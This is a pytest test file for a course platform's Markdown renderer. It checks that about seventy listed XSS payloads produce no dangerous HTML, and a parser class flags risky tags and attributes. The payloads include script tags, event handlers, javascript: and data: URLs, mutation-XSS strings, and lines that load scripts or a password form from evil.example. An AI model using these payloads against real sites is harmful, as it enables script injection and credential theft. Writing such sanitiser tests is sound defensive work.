"""Markdown from people who mean harm: nothing that runs, loads, overlays or takes a script's place may come out."""

import re
from html.parser import HTMLParser

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from courses.rendering.document import author_document, learner_document
from courses.rendering.mermaid import DiagramError, draw

CORPUS = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    "<img src='javascript:alert(1)'>",
    "<img src=https://evil.example/pixel.png>",
    "<img src=//evil.example/pixel.png>",
    "<img src='/\\evil.example/x.png'>",
    "![x](javascript:alert(1))",
    "![x](/../../admin/logout/)",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](java\nscript:alert(1))",
    "[x](&#106;avascript:alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x]: javascript:alert(1)\n\n[x]",
    "<javascript:alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "<a href=' &#14; javascript:alert(1)'>x</a>",
    "<svg onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><!--</style><img title='--&gt;&lt;img src=1 onerror=alert(1)&gt;'>",
    "<iframe src='javascript:alert(1)'></iframe>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data='data:text/html,<script>alert(1)</script>'></object>",
    "<embed src=//evil.example/x.swf>",
    "<form action=//evil.example><input name=password><button>Sign in</button></form>",
    "<input autofocus onfocus=alert(1)>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<body onload=alert(1)>",
    "<base href=//evil.example/>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<style>*{background:url(//evil.example)}</style>",
    "<p style='position:fixed;inset:0;background:url(//evil.example)'>x</p>",
    "<div class='dialog toasts site-header'>x</div>",
    "<h2 id='csrf-token'>x</h2>",
    "<a name='lab-description' id='lab-description'>x</a>",
    "<div hx-get='/decisions/' hx-trigger='load' data-hx-post='/x'>x</div>",
    "<section data-calculator='[]' data-lab-inline>x</section>",
    "<template><script>alert(1)</script></template>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "<plimsoll-question data-slug='secret'></plimsoll-question>",
    "`<script>alert(1)</script>`",
    "```html\n<script>alert(1)</script>\n```",
    "```\" onmouseover=alert(1) x=\"\ncode\n```",
    "``` {.python onclick=alert(1)}\ncode\n```",
    "## Heading {#x onclick=alert(1)}",
    "!!! note \"<img src=x onerror=alert(1)>\"\n    text",
    "??? interview \"<script>alert(1)</script>\"\n    text",
    "| a |\n|---|\n| <img src=x onerror=alert(1)> |",
    "text[^1]\n\n[^1]: <img src=x onerror=alert(1)>",
    "[^\"onclick=alert(1)]: x",
    "*[HTML]: \"onmouseover=alert(1)\n\nHTML",
    "$<img src=x onerror=alert(1)>$",
    "$\\text{<script>alert(1)</script>}$",
    "$$\\frac{</math><script>alert(1)</script>}{2}$$",
    "```mermaid\nalt: \"<img src=x onerror=alert(1)>\"\nsource: |\n  flowchart LR\n  A-->B\n```",
    "```mermaid\nalt: A diagram with a script\nsource: |\n  flowchart LR\n  click A \"javascript:alert(1)\"\n```",
    "```mermaid\nalt: A diagram with a script\nsource: |\n  flowchart LR\n  A[\"<img src=x onerror=alert(1)>\"]-->B\n```",
    "```mermaid\nalt: A diagram with settings\nsource: |\n  %%{init: {\"securityLevel\": \"loose\"}}%%\n"
    "  flowchart LR\n  A-->B\n```",
    "```decision\ntitle: <script>alert(1)</script>\nrows:\n  - when: <img src=x onerror=alert(1)>\n"
    "    choose: '[x](javascript:alert(1))'\n```",
    "```calculator\nname: <script>alert(1)</script>\n```",
    "```prediction\nask: <script>alert(1)</script>\nanswer: 1\n"
    "why: <img src=x onerror=alert(1)>\nunit: '\"><script>alert(1)</script>'\n```",
    "```code\ndotted: <script>alert(1)</script>\n```",
    "```question\nslug: '\"><script>alert(1)</script>'\n```",
    "x" + "\x02b0\x03",
    "<<script>script>alert(1)<</script>/script>",
    "<img src=\"x` `<script>alert(1)</script>\"` `>",
    "\u202ejavascript:alert(1)",
]  # fmt: skip
ALLOWED_TAGS_WITH_SRC = {"img"}
OWN_DATA = {"data-calculator", "data-prediction", "data-kind", "data-answer", "data-tolerance", "data-guess", "data-verdict"}
OWN_DATA |= {"data-reveal", "data-output", "data-first-line", "data-slug"}


class Inspector(HTMLParser):
    """Collects what a browser would act on."""

    def __init__(self) -> None:
        super().__init__()
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attrs: list[tuple[str, str | None]]) -> None:
        if tag in {"script", "iframe", "object", "embed", "base", "meta", "link", "style", "svg", "template", "body", "html"}:
            self.found.append(f"<{tag}>")
        for name, value in attrs:
            self.attribute(tag, name, value or "")

    def attribute(self, tag: str, name: str, value: str) -> None:
        address = re.sub(r"[\s\x00-\x20]", "", value).lower()
        if name.startswith(("on", "hx-", "data-hx", "style", "srcdoc", "formaction", "action")):
            self.found.append(f"{tag} {name}")
        if name in {"href", "src"} and address.startswith(("javascript:", "data:", "vbscript:")):
            self.found.append(f"{tag} {name}={address}")
        if name == "src" and (tag != "img" or not re.match(r"^/(?![/\\])", value) or ".." in value):
            self.found.append(f"{tag} src={value}")
        if name.startswith("data-") and name not in OWN_DATA:
            self.found.append(f"{tag} {name}")
        if name == "id" and not re.match(r"^(s-|fn|b\d+)", value):
            self.found.append(f"id={value}")
        if name == "class" and {"dialog", "toasts", "site-header"} & set(value.split()):
            self.found.append(f"class={value}")


def dangers(html: str) -> list[str]:
    inspector = Inspector()
    inspector.feed(html)
    return inspector.found


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_dangerous_comes_out_of_a_learners_text(text: str) -> None:
    assert dangers(learner_document(text).html) == []


@pytest.mark.parametrize("text", CORPUS)
def test_nothing_dangerous_comes_out_of_an_authors_text(text: str) -> None:
    assert dangers(author_document(text).html) == []


def test_a_learner_cannot_bring_in_questions_or_labs() -> None:
    made = learner_document("```question\nslug: secret\n```\n\n```lab\nslug: circuit-breaker\n```\n")
    assert "plimsoll-question" not in made.html
    assert "data-lab" not in made.html


def test_links_to_elsewhere_tell_the_other_site_nothing() -> None:
    assert 'rel="noopener noreferrer"' in learner_document("[x](https://example.org/)").html


pieces = st.sampled_from(
    [*CORPUS, "\n", "\n\n", "    ", "> ", "- ", "`", "```", "$", "|", "[", "](", "<", ">", '"', "!!! note\n"]
)


@settings(deadline=None)
@given(st.lists(pieces, max_size=6))
def test_no_mixture_of_them_is_dangerous_either(parts: list[str]) -> None:
    assert dangers(learner_document("".join(parts)).html) == []


@pytest.mark.parametrize(
    "source", ["flowchart LR\n" + "A-->B\n" * 3000, "flowchart LR\n" + "\n".join(f"N{i}-->N{i * 7 % 400}" for i in range(600))]
)
def test_a_diagram_that_would_take_long_is_refused(source: str) -> None:
    with pytest.raises(DiagramError):
        draw(source, "light")


def test_a_text_beyond_the_limit_is_cut_and_never_raises() -> None:
    assert learner_document("x" * 300_000).words == 1
